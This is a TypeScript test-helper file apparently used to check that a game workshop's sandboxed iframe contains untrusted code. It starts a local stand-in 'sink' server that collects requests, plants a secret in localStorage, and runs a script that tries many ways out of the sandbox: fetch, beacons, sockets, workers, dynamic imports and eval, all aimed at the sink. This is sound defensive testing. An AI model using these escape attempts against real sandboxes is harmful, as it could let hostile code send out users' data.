/** Rules that mean harm, and what must not come of them, in any browser. */
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';
import { expect } from 'vitest';
import { readyWithValues } from './desk.ts';
import { agree } from './workshop.ts';

/** Somebody who waits for secrets, and would hand them to anybody. */
interface Sink {
  readonly address: string;
  /** What was asked of them. */
  readonly asked: readonly string[];
  close(): void;
}

export async function openSink(): Promise<Sink> {
  const asked: string[] = [];
  const server = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/javascript' }).end('1;');
  });
  server.on('upgrade', (request, socket) => {
    asked.push(request.url ?? '');
    socket.destroy();
  });
  await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { address: `127.0.0.1:${port}`, asked, close: () => void server.close() };
}

/** What a frame without an origin is refused is told to the console, whoever asked. */
export const REFUSED =
  /csp|Content Security Policy|Failed to load|net::ERR|Refused|Failed to construct|NetworkError|blocked/;

/** A game whose name tells what happened to its author's plans. */
export const game = (before: string, name = `'harmless'`, more = '') => `
import { defineGame } from 'zugzwang';
const scope: any = globalThis;
${before}
export default defineGame({
  name: ${name},
  start: 5,
  moves: n => [1, 2].filter(k => k <= n),
  play: (n: number, k) => n - k,
  ${more}
});
`;

/** The page, with a secret in each store of its origin, after it has agreed to run a source within a time limit, in seconds. */
export async function run(page: Page, limit = '60'): Promise<void> {
  await page.evaluate(limit => {
    localStorage.setItem('secret', 'kept');
    localStorage.setItem('zugzwang.workshop.limit', limit);
  }, limit);
  await agree(page);
}

export async function isUntouched(page: Page): Promise<void> {
  expect(await page.evaluate(() => localStorage.getItem('secret'))).toBe('kept');
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
  expect(await page.evaluate(() => Array.prototype.map === [].map && JSON.stringify([1]) === '[1]')).toBe(true);
  // The page answers, and another game can be had.
  await page.goto(page.url().replace(/#.*/, '#/play/nim'));
  await readyWithValues(page);
}

export const REACHED = `
const names = ['fetch', 'XMLHttpRequest', 'WebSocket', 'EventSource', 'WebTransport', 'RTCPeerConnection', 'Worker', 'SharedWorker',
  'importScripts', 'indexedDB', 'caches', 'BroadcastChannel', 'navigator', 'location', 'document', 'window', 'parent', 'postMessage',
  'close', 'setTimeout', 'WebAssembly', 'SharedArrayBuffer', 'Blob', 'URL', 'MessageChannel', 'localStorage', 'performance', 'self'];
const found = names.filter(name => { try { return scope[name] !== undefined; } catch { return false; } });
for (let one = scope; one; one = Object.getPrototypeOf(one))
  for (const name of names) if (Object.getOwnPropertyDescriptor(one, name)?.get) found.push('get ' + name);
for (const make of [() => scope.eval('1'), () => new Function('return 1')(), () => (async () => {}).constructor('1')]) {
  try { make(); found.push('a program from a text'); } catch {}
}
`;

/** Tries every way out of the sandbox; which of them led out, and what the page has heard meanwhile. */
export async function everyWayOut(page: Page, address: string): Promise<unknown> {
  // As if somebody had found a way past the lock: a script of theirs from its first line on.
  const script = `
    const at = ${JSON.stringify(address)}, report = [];
    const tries = {
      fetch: () => fetch('http://' + at + '/fetch'),
      blind: () => fetch('http://' + at + '/blind', { mode: 'no-cors', keepalive: true }),
      own: () => fetch(${JSON.stringify(new URL(page.url()).origin)} + '/site.json'),
      xhr: () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.open('GET', 'http://' + at + '/xhr'); x.onload = done; x.onerror = () => fail(1); x.send(); }),
      socket: () => new Promise((done, fail) => { const s = new WebSocket('ws://' + at + '/socket'); s.onopen = done; s.onerror = () => fail(1); }),
      events: () => new Promise((done, fail) => { const s = new EventSource('http://' + at + '/events'); s.onopen = done; s.onerror = () => fail(1); }),
      scripts: async () => importScripts('http://' + at + '/scripts'),
      module: () => import('http://' + at + '/module'),
      nested: () => new Promise((done, fail) => { const w = new Worker('http://' + at + '/nested'); w.onerror = () => fail(1); setTimeout(fail, 1500); }),
      within: () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(["fetch('http://" + at + "/within').then(() => postMessage(1), () => postMessage(0))"]))); w.onmessage = ({ data }) => data ? done() : fail(1); w.onerror = () => fail(1); }),
      transport: async () => { const t = new WebTransport('https://' + at + '/transport'); await t.ready; },
      database: () => new Promise((done, fail) => { const r = indexedDB.open('x'); r.onsuccess = done; r.onerror = () => fail(1); }),
      caches: () => caches.open('x'),
      files: () => navigator.storage.getDirectory(),
      beacon: async () => { if (!navigator.sendBeacon('http://' + at + '/beacon')) throw 1; },
      evaluate: async () => eval('1'),
    };
    (async () => {
      for (const [name, attempt] of Object.entries(tries)) {
        try { await Promise.race([attempt(), new Promise((_, fail) => setTimeout(() => fail('late'), 2500))]); report.push(name); } catch {}
      }
      new BroadcastChannel('x').postMessage('hello');
      postMessage(JSON.stringify(report));
    })();`;
  return JSON.parse(
    await page.evaluate(async text => {
      const heard: unknown[] = [];
      new BroadcastChannel('x').onmessage = ({ data }) => heard.push(data);
      window.addEventListener('message', ({ data }) => heard.push(data));
      const frame = document.createElement('iframe');
      frame.setAttribute('sandbox', 'allow-scripts');
      frame.src = 'sandbox.html';
      const { port1, port2 } = new MessageChannel();
      const said = new Promise(resolve => (port1.onmessage = ({ data }) => 'ready' in data || resolve(data)));
      frame.onload = () => frame.contentWindow?.postMessage(text, '*', [port2]);
      document.body.append(frame);
      return JSON.stringify([await said, heard]);
    }, script),
  );
}
